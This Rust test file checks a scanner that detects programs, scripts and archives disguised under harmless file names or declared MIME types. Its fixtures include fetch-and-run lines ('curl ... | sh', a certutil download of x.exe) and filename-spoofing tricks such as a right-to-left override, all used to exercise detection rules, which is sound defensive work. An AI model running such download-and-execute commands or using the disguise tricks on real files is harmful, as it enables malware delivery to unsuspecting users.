use crate::forge::{Example, case, elf, fired, noise, pe, png, type_of};
use sheepdip::model::report::Verdict;

const SCRIPT: &[u8] = b"#!/bin/sh\necho hello\ncurl -s http://127.0.0.1/x | sh\n";
const PAGE: &[u8] = b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>hello</p></body></html>\n";
const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";

/// An empty ZIP archive with a comment.
fn archive() -> Vec<u8> {
    let mut out = b"PK\x05\x06".to_vec();
    out.extend([0; 18]);
    out
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "claim.program-in-disguise",
        fires: || case("photo.jpg", pe::minimal()),
        silent: || case("photo.jpg", png::plain()),
    },
    Example {
        rule: "claim.script-in-disguise",
        fires: || case("photo.jpg", SCRIPT),
        silent: || case("install.sh", SCRIPT),
    },
    Example {
        rule: "claim.declared-type-hides-program",
        fires: || case("attachment", pe::minimal()).declared("image/jpeg"),
        silent: || case("setup.exe", pe::minimal()).declared("application/octet-stream"),
    },
    Example {
        rule: "claim.script-as-text",
        fires: || case("notes.txt", SCRIPT),
        silent: || case("notes.txt", "To see your address, type:\n    ipconfig /all\nand send me what it says.\n"),
    },
    Example {
        rule: "claim.archive-in-disguise",
        fires: || case("photo.jpg", archive()),
        silent: || case("photos.zip", archive()),
    },
    Example { rule: "claim.page-in-disguise", fires: || case("photo.jpg", PAGE), silent: || case("table.xls", PAGE) },
    Example {
        rule: "claim.declared-type",
        fires: || case("attachment", archive()).declared("image/jpeg"),
        silent: || case("photos.zip", archive()).declared("application/x-zip-compressed"),
    },
    Example { rule: "claim.different-type", fires: || case("photo.jpg", PDF), silent: || case("report.pdf", PDF) },
    Example {
        rule: "claim.not-recognised",
        fires: || case("photo.jpg", noise(5000)),
        silent: || case("photo.dat", noise(5000)),
    },
    Example {
        rule: "claim.other-type",
        fires: || case("photo.jpg", png::plain()),
        silent: || case("photo.png", png::plain()),
    },
];

#[test]
fn a_program_named_photo_jpg_is_dangerous() {
    let report = case("photo.jpg", pe::minimal()).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
    let proof = report.worst_first()[0].proof();
    assert!(proof.contains("4D 5A (\"MZ\")"), "{proof}");
}

#[test]
fn a_program_under_every_harmless_ending_is_in_disguise() {
    for name in ["a.png", "a.pdf", "a.txt", "a.mp4", "a.docx", "a.zip", "A.JPEG", "a.b.gif", "a.rtf", "a.svg", "a.csv"]
    {
        let report = case(name, pe::minimal()).examine();
        assert!(fired(&report).contains(&"claim.program-in-disguise"), "{name}: {:?}", fired(&report));
    }
}

#[test]
fn a_program_that_says_so_or_says_nothing_is_told_as_a_program_only() {
    for name in ["setup.exe", "saver.scr", "part.dll", "tool", "cache.dat", "a.bin", "x.7f3a", "a.js", "photo.bak"] {
        let report = case(name, pe::minimal()).examine();
        assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{name}: {:?}", fired(&report));
        assert_eq!(
            fired(&report).iter().filter(|r| r.starts_with("claim.")).count(),
            0,
            "{name}: {:?}",
            fired(&report)
        );
    }
}

#[test]
fn the_real_ending_counts_when_a_name_is_tricked() {
    // The real ending is .pdf, the rest is decoration.
    let report = case("setup.exe                                .pdf", pe::minimal()).examine();
    assert!(fired(&report).contains(&"claim.program-in-disguise"), "{:?}", fired(&report));
    let report = case("photo\u{202E}gpj.exe", pe::minimal()).examine();
    assert!(!fired(&report).contains(&"claim.program-in-disguise"), "{:?}", fired(&report));
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn honest_mislabels_do_not_alarm() {
    let cases = [
        case("photo.jpg", png::plain()),
        case("photo.webp", png::plain()),
        case("table.xls", "name;number\nMiller;12\nMeyer;-5\n"),
        case("table.xls", PAGE),
        case("letter.doc", PAGE),
        case("letter.doc", "Dear Sir or Madam,\n\nplease find my question below.\n"),
        case("notes.txt", PAGE),
        case("server.conf", "listen 80;\n# comment\n"),
        case("photo", png::plain()),
        case("photo.dat", png::plain()),
        case("scan.pdf", png::plain()),
        case("report.jpg", PDF),
        case("app.sqlite-wal", noise(2000)),
        case("empty", ""),
        case("empty.txt", ""),
    ];
    for case in cases {
        let report = case.examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{}: {:?} {:?}", case.name, fired(&report), report.gaps);
    }
}

#[test]
fn what_is_neither_its_name_nor_anything_known_is_unexamined_not_clean() {
    for (name, bytes) in [("photo.jpg", noise(5000)), ("scan.pdf", noise(300)), ("photo.png", Vec::new())] {
        let report = case(name, bytes).examine();
        assert_eq!(report.judgement.verdict, Verdict::Unexamined, "{name}: {:?}", fired(&report));
        assert!(fired(&report).contains(&"claim.not-recognised"), "{name}");
    }
}

#[test]
fn an_announced_type_that_fits_is_silent() {
    let fits = [
        ("photo.png", "image/png"),
        ("photo.png", "image/x-png"),
        ("photo.png", "image/jpeg"),
        ("photo.png", "image/jpg"),
        ("photo.png", "image/pjpeg"),
        ("photo.png", "application/octet-stream"),
        ("photo", "image/png"),
    ];
    for (name, mime) in fits {
        let report = case(name, png::plain()).declared(mime).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{name} as {mime}: {:?}", fired(&report));
    }
    let texts =
        [("a.csv", "text/csv"), ("a.csv", "application/vnd.ms-excel"), ("a.md", "text/plain"), ("a.log", "text/x-log")];
    for (name, mime) in texts {
        let report = case(name, "name;number\nMiller;12\n").declared(mime).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{name} as {mime}: {:?}", fired(&report));
    }
}

#[test]
fn an_announced_type_that_lies_is_told() {
    let program = case("setup.exe", pe::minimal()).declared("image/png").examine();
    assert!(fired(&program).contains(&"claim.declared-type-hides-program"), "{:?}", fired(&program));
    let careless = case("setup.exe", pe::minimal()).declared("text/plain").examine();
    assert_eq!(careless.judgement.verdict, Verdict::Suspicious, "{:?}", fired(&careless));
    let pdf = case("attachment", pe::minimal()).declared("application/pdf").examine();
    assert_eq!(pdf.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&pdf));
    // An unknown picture type is a picture all the same.
    let made_up = case("attachment", pe::minimal()).declared("image/x-made-up").examine();
    assert_eq!(made_up.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&made_up));
}

#[test]
fn special_and_general_types_of_one_family_are_no_disguise() {
    use crate::forge::zip;
    let cases = [
        case("a.zip", zip::names(&["a.txt"])),
        case("program.zip", zip::of("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")),
        case("letter.docx", zip::names(&["a.txt"])),
    ];
    for case in cases {
        let report = case.examine();
        let told: Vec<_> = fired(&report).into_iter().filter(|r| r.starts_with("claim.")).collect();
        assert!(told.is_empty(), "{} ({}): {told:?}", case.name, report.artifacts[0].content_type.id);
    }
    let hidden = case("letter.pdf", zip::names(&["a.txt"])).examine();
    assert!(fired(&hidden).contains(&"claim.archive-in-disguise"), "{:?}", fired(&hidden));
}

#[test]
fn documentation_and_settings_with_snippets_are_no_scripts_in_disguise() {
    let python = "Using it\n========\n\nimport os\nfrom shop import Cart\n\ndef total(self):\n    return os.path.join(self.a)\n\n\
                  class Order(object):\n    def __init__(self):\n        self.a = None\n";
    let batch =
        "@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncopy %a% b\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
    for (name, text) in [("usage.rst", python), ("ci.yml", batch), ("README.md", batch), ("x.patch", batch)] {
        let report = case(name, text).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{name}: {:?}", fired(&report));
    }
    // Under the name of a text it is told, and so is what names its interpreter or fetches a program.
    assert!(fired(&case("notes.txt", batch).examine()).contains(&"claim.script-as-text"));
    assert!(fired(&case("README.md", SCRIPT).examine()).contains(&"claim.script-as-text"));
    let loader = batch.replace("copy", "certutil -urlcache -split -f http://127.0.0.1/x x.exe\r\ncopy");
    assert!(fired(&case("ci.yml", loader).examine()).contains(&"scripts.download-and-run"));
}

#[test]
fn commands_behind_a_long_head_of_comments_are_seen() {
    let batch =
        "@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncopy %a% b\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
    let heads = ["rem The quick brown fox says nothing at all.\r\n".repeat(2000), "<!-- x\r\n-->\r\n".to_owned()];
    for head in heads {
        let report = case("photo.jpg", format!("{head}{batch}")).examine();
        assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
    }
    let honest = case("settings.txt", "# nothing here\n".repeat(5000)).examine();
    assert_eq!(honest.judgement.verdict, Verdict::Clean, "{:?}", fired(&honest));
}

#[test]
fn what_starts_a_computer_is_named_like_a_disk_and_is_no_disguise() {
    for name in ["kernel.img", "s390-ccw.img", "boot.IMG"] {
        for bytes in [elf::minimal(), pe::minimal()] {
            let report = case(name, bytes).examine();
            assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{name}: {:?}", fired(&report));
            assert!(!fired(&report).contains(&"claim.program-in-disguise"), "{name}");
        }
    }
    // Commands under that name are none, nor are programs under names that only disks have.
    assert_eq!(case("kernel.img", SCRIPT).examine().judgement.verdict, Verdict::Dangerous);
    assert_eq!(case("letter.iso", pe::minimal()).examine().judgement.verdict, Verdict::Dangerous);
    assert_eq!(case("kernel.img.jpg", elf::minimal()).examine().judgement.verdict, Verdict::Dangerous);
}

#[test]
fn a_proof_speaks_of_no_other_type_than_the_one_that_is_claimed() {
    for name in ["a.iso", "a.txt", "a.csv", "a.eml", "a.mp3"] {
        for finding in case(name, elf::minimal()).examine().findings {
            assert!(!finding.proof().contains("JPEG"), "{name}: {}", finding.proof());
            assert!(!finding.proof().ends_with(' '), "{name}: {}", finding.proof());
        }
    }
}

#[test]
fn names_that_mean_something_else_to_everybody_are_no_gap() {
    for name in ["boot.cat", "arrows.thm"] {
        assert_eq!(case(name, noise(2048)).examine().judgement.verdict, Verdict::Clean, "{name}");
    }
    let list = "application/x-archive:\n\text: jar war\n\ticon: archive\n\tcategory: files of programs\n";
    assert_eq!(case("archive.mime", list).examine().judgement.verdict, Verdict::Clean);
    assert!(fired(&case("boot.cat", pe::minimal()).examine()).contains(&"nature.program"));
}

const SHELL: &str = "set -e\nfor i in a b; do\n    if [ -f \"$i\" ]; then\n        echo \"$i\"\n        exit 1\n    fi\ndone\nexport PATH\n";

#[test]
fn texts_with_a_heading_are_about_scripts_and_are_none() {
    for heading in
        ["Plugins on AIX\n==============\n\n", "git-shell(1)\n============\n\n", "*if_sh.txt*  For Vim version 9.0\n\n"]
    {
        let report = case("notes.txt", format!("{heading}{SHELL}")).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{heading}: {:?}", fired(&report));
    }
    for heading in ["", "Plugins on AIX\n\n", "x\n==============\n", "#!/bin/sh\n#########\n"] {
        let report = case("notes.txt", format!("{heading}{SHELL}")).examine();
        assert!(fired(&report).contains(&"claim.script-as-text"), "{heading}: {:?}", fired(&report));
    }
    // What the script does is told under any heading.
    let loader = "How to\n======\n\n@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncertutil -urlcache -split -f http://127.0.0.1/x \
                  x.exe\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
    assert!(fired(&case("notes.txt", loader).examine()).contains(&"scripts.download-and-run"));
}

#[test]
fn source_code_that_reads_like_a_script_of_another_language_is_source_code() {
    for name in ["main.f90", "tests.m", "matchit.vim", "Makefile.am"] {
        assert_eq!(case(name, SHELL).examine().judgement.verdict, Verdict::Clean, "{name}");
        assert!(fired(&case(name, SCRIPT).examine()).contains(&"claim.script-as-text"), "{name}");
    }
    let batch =
        "@echo off\r\nsetlocal\r\nset a=%temp%\\x\r\ncopy %a% b\r\nif exist %a% goto end\r\n:end\r\nexit /b\r\n";
    assert!(fired(&case("tests.m", batch).examine()).contains(&"claim.script-as-text"));
}

#[test]
fn the_texts_of_a_tcl_program_are_no_message_of_outlook() {
    let tcl = "# -*- tcl -*-\npackage require msgcat\nnamespace import ::msgcat::*\nproc say {a} {\n    puts $a\n}\nset b [list 1 2]\n";
    let report = case("en.msg", tcl).examine();
    assert_eq!((type_of(&report), report.judgement.verdict), ("tcl", Verdict::Clean), "{:?}", fired(&report));
    assert_eq!(case("en.msg", SHELL).examine().judgement.verdict, Verdict::Dangerous);
    assert_eq!(case("en.pdf", tcl).examine().judgement.verdict, Verdict::Dangerous);
}
